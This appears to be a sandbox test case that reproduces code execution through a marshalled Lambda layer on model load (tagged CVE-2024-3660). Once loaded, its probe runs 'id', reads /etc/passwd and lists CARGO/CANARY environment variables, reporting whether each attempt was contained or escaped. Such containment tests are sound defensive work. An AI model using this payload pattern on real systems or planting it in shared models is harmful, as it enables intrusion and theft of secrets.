# /// case
# technique = "pickle-and-marshal"
# analysis = ["forbidden-import", "forbidden-function"]
# without_analysis = "contained"
# reference = "CVE-2024-3660"
# ///
# A model whose layer is a function, stored as marshalled code and called when the model is loaded.
import base64, marshal, types

def make():
    source = compile("__import__('os')", "<layer>", "eval")
    return {"class": "Lambda", "config": {"function": base64.b64encode(marshal.dumps(source)).decode()}}

def load(layer):
    code = marshal.loads(base64.b64decode(layer["config"]["function"]))
    return types.FunctionType(code, globals())()

found = load(make())

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
